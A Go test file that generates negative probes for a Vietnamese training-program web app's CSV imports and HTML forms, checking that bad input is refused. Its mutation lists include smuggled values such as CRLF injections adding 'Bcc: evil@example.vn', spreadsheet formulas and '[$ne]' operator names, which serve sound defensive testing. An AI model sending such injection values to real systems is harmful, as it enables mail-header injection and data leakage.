		{"stipend 1e400", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1e400"), "rows[2].contract.quarterly_stipend"},
		{"stipend 2^63", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "9223372036854775808"), "rows[2].contract.quarterly_stipend"},
		{"CR in a name", "file", "a.csv", header + row("BADIN-IMP", "\"Lê\rVăn Tám\"", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1500000"), "rows[2].full_name"},
		{"NUL in a name", "file", "a.csv", header + row("BADIN-IMP", "Lê\x00Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1500000"), "rows[2].full_name"},
		{"formula as email", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "=HYPERLINK(1)", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1500000"), "rows[2].email"},
		{"zero-width in a code", "file", "a.csv", header + row("BADIN-IMP\u200b", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1500000"), "rows[2].code"},
		{"unknown area", "file", "a.csv", header + row("BADIN-IMP", "Lê Văn Tám", "badin.imp@example.vn", "0912345679", "ctv", "ZZ", "01/01/2026", "31/12/2027", "active", "1500000"), "rows[2].area_code"},
		{"a good row and a bad row", "file", "a.csv", header + good + row("BADIN-IMQ", "Lê Văn Chín", "not-an-email", "0912345670", "ctv", w.area, "01/01/2026", "31/12/2027", "active", "1500000"), "rows[3].email"},
		{"the same row twice", "file", "a.csv", header + good + good, ""},
	} {
		out = append(out, file("import: "+c.name, c.field, c.fname, []byte(c.data)))
		out[len(out)-1].field = c.want
	}
	p := mk("import: JSON instead of a file")
	p.body, p.ctype = []byte(`{"file":"x"}`), "application/json"
	out = append(out, p)
	big := file("import: over 10 MiB", "file", "a.csv", []byte(header+strings.Repeat(good, (10<<20)/len(good)+10)))
	big.field = ""
	out = append(out, big)
	return out
}

// performanceUploadProbes are bad imports of a quarter's performance
// records (of the quarter the query names, or without one).
func (w *world) performanceUploadProbes(mk func(string) probe) []probe {
	header := "Mã CTV,Hồ sơ cơ sở,Khảo sát nhu cầu,Giới thiệu vào chương trình,Báo cáo đúng hạn\n"
	var out []probe
	for _, c := range []struct {
		name, field, query, data, want string
	}{
		{"no quarter", "file", "", header + "BADIN,1,1,1,1\n", "quarter"},
		{"bad quarter", "file", "?quarter=2026-Q9", header + "BADIN,1,1,1,1\n", "quarter"},
		{"no file field", "upload", "?quarter=2026-Q3", header, "file"},
		{"empty file", "file", "?quarter=2026-Q3", "", "file"},
		{"header only", "file", "?quarter=2026-Q3", header, "file"},
		{"unknown column", "file", "?quarter=2026-Q3", "Mã CTV,Thư\nX,1\n", "file.header"},
		{"missing column", "file", "?quarter=2026-Q3", "Mã CTV,Hồ sơ cơ sở\nX,1\n", "file.header"},
		{"not a workbook", "file", "?quarter=2026-Q3", "PK\x03\x04 not a zip at all", "file"},
		{"unknown person", "file", "?quarter=2026-Q3", header + "NOBODY-X,1,1,1,1\n", "rows[2].code"},
		{"negative count", "file", "?quarter=2026-Q3", header + "NOBODY-X,-1,1,1,1\n", "rows[2].profiles"},
		{"a word for yes", "file", "?quarter=2026-Q3", header + "NOBODY-X,1,1,1,maybe\n", "rows[2].report_on_time"},
	} {
		p := mk("import: " + c.name)
		p.path += c.query
		p.body, p.ctype = apptest.Multipart(w.t, c.field, "a.csv", []byte(c.data), nil)
		p.field = c.want
		out = append(out, p)
	}
	return out
}

// HTML forms.

type form struct {
	role, page, action, method string
	fields                     []formField
}

type formField struct {
	name, kind, value string
	options           []string
	checked, selected bool
}

// discoverForms reads every page each role may open and the forms on them.
func (w *world) discoverForms() []form {
	seen := map[string]bool{}
	var out []form
	for _, rt := range w.s.Routes() {
		if rt.Method != "GET" || strings.HasPrefix(rt.Path, "/api") || strings.HasPrefix(rt.Path, "/static") ||
			rt.Path == "/metrics" || rt.Path == "/healthz" || rt.Path == "/readyz" {
			continue
		}
		if strings.Contains(rt.Path, ":token") {
			continue // a set-password link's page opens only with a mailed token (modules/accounts tests its form)
		}
		if strings.HasPrefix(rt.Path, "/verify/") {
			continue // a verification page has no form, and opens only with a real code (certpdf tests unknown and malformed codes)
		}
		if strings.HasPrefix(rt.Path, "/certifications/:id") {
			continue // the revoke form needs a certificate, which the corpus's world has none of (TestCertificatesPage posts it)
		}
		for _, role := range []string{"", authz.RoleCoordinator, authz.RoleCTV} {
			if ok, _ := w.enf.Decide(role, rt.Path, "GET"); !ok {
				continue
			}
			if role == "" && rt.Path != "/login" && !strings.HasPrefix(rt.Path, "/rsvp") {
				continue // signed out, only the sign-in and RSVP pages have forms of their own
			}
			pages := []string{w.fill(rt.Path, "GET")}
			if strings.Contains(rt.Path, ":code") {
				// Every course: the quiz of the course under way has no start form.
				pages = nil
				for _, c := range w.courses {
					pages = append(pages, strings.Replace(rt.Path, ":code", c, 1))
				}
			}
			for _, page := range pages {
				r := w.send(probe{form: true, role: role, method: "GET", path: page})
				if r.status == 302 || r.status == 303 {
					continue // the home page sends a signed-in user on
				}
				if r.status != 200 {
					w.t.Errorf("page %s as %q: %d", page, role, r.status)
					continue
				}
				for _, f := range parseForms(string(r.body)) {
					f.role, f.page = role, page
					key := role + " " + f.method + " " + f.action
					if seen[key] {
						continue
					}
					seen[key] = true
					out = append(out, f)
				}
			}
		}
	}
	return out
}

// parseForms reads the <form> elements of a page and their fields.
func parseForms(page string) []form {
	var out []form
	var cur *form
	var sel *formField
	z := html.NewTokenizer(strings.NewReader(page))
	attr := func(t html.Token, k string) (string, bool) {
		for _, a := range t.Attr {
			if a.Key == k {
				return a.Val, true
			}
		}
		return "", false
	}
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return out
		}
		t := z.Token()
		switch {
		case t.Data == "form" && tt == html.StartTagToken:
			action, _ := attr(t, "action")
			method, _ := attr(t, "method")
			out = append(out, form{action: action, method: strings.ToUpper(method)})
			cur = &out[len(out)-1]
			if cur.method == "" {
				cur.method = "GET"
			}
		case t.Data == "form" && tt == html.EndTagToken:
			cur = nil
		case cur == nil:
		case t.Data == "input" && (tt == html.StartTagToken || tt == html.SelfClosingTagToken):
			name, ok := attr(t, "name")
			if !ok {
				continue
			}
			kind, _ := attr(t, "type")
			if kind == "" {
				kind = "text"
			}
			v, _ := attr(t, "value")
			_, checked := attr(t, "checked")
			cur.fields = append(cur.fields, formField{name: name, kind: kind, value: v, checked: checked})
		case (t.Data == "button") && tt == html.StartTagToken:
			name, ok := attr(t, "name")
			if !ok {
				continue
			}
			v, _ := attr(t, "value")
			cur.fields = append(cur.fields, formField{name: name, kind: "button", value: v})
		case t.Data == "textarea" && tt == html.StartTagToken:
			name, _ := attr(t, "name")
			cur.fields = append(cur.fields, formField{name: name, kind: "textarea"})
		case t.Data == "select" && tt == html.StartTagToken:
			name, _ := attr(t, "name")
			cur.fields = append(cur.fields, formField{name: name, kind: "select"})
			sel = &cur.fields[len(cur.fields)-1]
		case t.Data == "select" && tt == html.EndTagToken:
			sel = nil
		case t.Data == "option" && tt == html.StartTagToken && sel != nil:
			v, _ := attr(t, "value")
			sel.options = append(sel.options, v)
			if _, s := attr(t, "selected"); s {
				sel.value, sel.selected = v, true
			}
		}
	}
}

// baseForm is what a browser would post, with the empty fields a person
// fills in filled by name.
func (w *world) baseForm(f form) url.Values {
	v := url.Values{}
	buttonDone := false
	date := w.clk.Now().In(time.FixedZone("ICT", 7*3600)).AddDate(0, 0, 40).Format("2006-01-02")
	for _, fd := range f.fields {
		switch fd.kind {
		case "radio", "checkbox":
			if fd.checked {
				v.Add(fd.name, fd.value)
			}
		case "button", "submit":
			if !buttonDone && fd.value != "submit" && fd.value != "all_present" {
				v.Set(fd.name, fd.value)
				buttonDone = true
			}
		case "select":
			val := fd.value
			if !fd.selected && f.method == "POST" {
				for _, o := range fd.options {
					if o != "" {
						val = o
						break
					}
				}
			}
			v.Set(fd.name, val)
		default:
			val := fd.value
			if val == "" && f.method == "POST" {
				switch fd.name {
				case "date":
					val = date
				case "start":
					val = "08:00"
				case "end":
					val = "11:00"
				case "capacity":
					val = "30"
				case "repeat":
					val = "1"
				case "password":
					val = apptest.DemoPassword
				case "email":
					val = w.ctvEmail
				default:
					val = w.baseString(fd.name, f.action)
				}
			}
			v.Set(fd.name, val)
		}
	}
	return v
}

// formExcluded are fields whose changes a form accepts by design.
var formExcluded = map[string]string{
	"next":   "the sign-in form's next: an unsafe target is dropped, not refused",
	"action": "a form's action button: an unknown action is the form's harmless default (save)",
	"_csrf":  "the token has its own cases",
}

// formProbes generates the forms part of the corpus.
func (w *world) formProbes() []probe {
	var out []probe
	forms := w.discoverForms()
	if len(forms) < 8 {
		w.t.Fatalf("found %d forms", len(forms))
	}
	var names []string
	for _, f := range forms {
		who := f.role
		if who == "" {
			who = "anonymous"
		}
		names = append(names, fmt.Sprintf("%s %s (%s, %d fields)", f.method, f.action, who, len(f.fields)))
	}
	w.t.Logf("%d forms: %s", len(forms), strings.Join(names, "; "))
	bigDone := false
	for _, f := range forms {
		base := w.baseForm(f)
		route := f.method + " " + f.action + " (form on " + f.page + ")"
		isLogout := f.action == "/logout"
		mk := func(mut string, vals url.Values) probe {
			p := probe{form: true, route: route, mut: mut, role: f.role, method: f.method, path: f.action, refuse: true, last: isLogout}
			if f.method == "GET" {
				p.path = f.action + "?" + vals.Encode()
			} else {
				p.body, p.ctype = []byte(vals.Encode()), "application/x-www-form-urlencoded"
			}
			return p
		}
		with := func(name, val string) url.Values {
			out := url.Values{}
			for k, vs := range base {
				out[k] = append([]string{}, vs...)
			}
			out.Set(name, val)
			return out
		}
		if f.method == "POST" {
			noCSRF := with("_csrf", "")
			noCSRF.Del("_csrf")
			out = append(out, mk("no CSRF token", noCSRF), mk("another CSRF token", with("_csrf", strings.Repeat("A", 43))),
				mk("CSRF token with CRLF", with("_csrf", base.Get("_csrf")+"\r\n")))
			p := mk("text/plain body", base)
			p.ctype = "text/plain"
			out = append(out, p)
			j, _ := json.Marshal(map[string]string{"_csrf": base.Get("_csrf")})
			p = mk("JSON body", base)
			p.body, p.ctype = j, "application/json"
			out = append(out, p)
			p = mk("multipart without boundary", base)
			p.ctype = "multipart/form-data"
			out = append(out, p)
		}
		done := map[string]bool{}
		for _, fd := range f.fields {
			if done[fd.name] {
				continue
			}
			done[fd.name] = true
			if why, skip := formExcluded[fd.name]; skip {
				if fd.name != "_csrf" {
					w.leftOut[why]++
				}
				continue
			}
			if fd.kind == "button" && fd.name != "answer" {
				continue
			}
			// An operator in the field's name instead of the field.
			renamed := with(fd.name, "")
			renamed.Del(fd.name)
			renamed.Set(fd.name+"[$ne]", "x")
			p := mk(fd.name+"[$ne]", renamed)
			if f.method == "GET" {
				p.field = fd.name + "[$ne]"
			}
			out = append(out, p)
			for _, m := range formMutations(fd, base.Get(fd.name), f.method) {
				p := mk(fd.name+": "+m.name, with(fd.name, m.value))
				if f.method == "GET" {
					p.refuse, p.why = false, "a search or filter value that names nothing matches nothing"
					if fd.name == "week" {
						p.refuse, p.why = true, ""
					}
				}
				if f.action == "/forgot" && m.name == "unknown value" {
					p.refuse, p.why = false, "the forgotten-password form answers a well-formed address with no account as it answers one with an account"
				}
				out = append(out, p)
			}
			if !bigDone && f.method == "POST" && fd.kind == "text" {
				bigDone = true
				out = append(out, mk(fd.name+": over 10 MiB", with(fd.name, strings.Repeat("a", 10<<20+100))))
				out = append(out, mk(fd.name+": over 1 MiB", with(fd.name, strings.Repeat("a", 1<<20+100))))
			}
		}
	}
	return out
}

type formMut struct{ name, value string }

// formMutations are bad values for a form field, by its kind.
func formMutations(fd formField, base, method string) []formMut {
	long := formMut{"over-long (20,000 characters)", strings.Repeat("Ư", 20000)}
	if method == "GET" {
		long = formMut{"over-long (500 characters)", strings.Repeat("Ư", 500)}
	}
	ms := []formMut{
		{"invalid UTF-8", base + "\xff\xfe"},
		{"NUL", base + "\x00"},
		{"ESC sequence", base + "\x1b[2J"},
		long,
	}
	if fd.kind != "textarea" && fd.kind != "password" {
		ms = append(ms,
			formMut{"bare CR", base + "\rATTENDEE:mailto:evil@example.vn\rX-INJ:1"},
			formMut{"CRLF", base + "\r\nBcc: evil@example.vn"},
			formMut{"LF", base + "\nX-INJ: 1"},
		)
	}
	switch fd.kind {
	case "select", "radio", "checkbox", "hidden", "button", "email", "tel":
		ms = append(ms,
			formMut{"zero-width space", base + "\u200b"},
			formMut{"NFD combining mark", base + "\u0301"},
			formMut{"formula", formula},
			formMut{"unknown value", base + "-khong-co"},
		)
	case "date":
		ms = append(ms, formMut{"impossible date 2026-02-30", "2026-02-30"}, formMut{"year 0001", "0001-01-01"},
			formMut{"year 9999", "9999-12-31"}, formMut{"month 13", "2026-13-01"}, formMut{"formula", formula},
			formMut{"date and time", "2026-12-07T08:00"})
	case "time":
		ms = append(ms, formMut{"hour 25", "25:00"}, formMut{"minute 61", "08:61"}, formMut{"words", "8 giờ"}, formMut{"formula", formula})
	case "number":
		ms = append(ms, formMut{"-1", "-1"}, formMut{"1e400", "1e400"}, formMut{"2^63", "9223372036854775808"},
			formMut{"fraction", "1.5"}, formMut{"words", "ba mươi"}, formMut{"formula", formula})
	}
	if fd.name == "code" || fd.name == "walkin_code" {
		ms = append(ms, formMut{"zero-width space", base + "\u200b"}, formMut{"formula", formula})
	}
	return ms
}
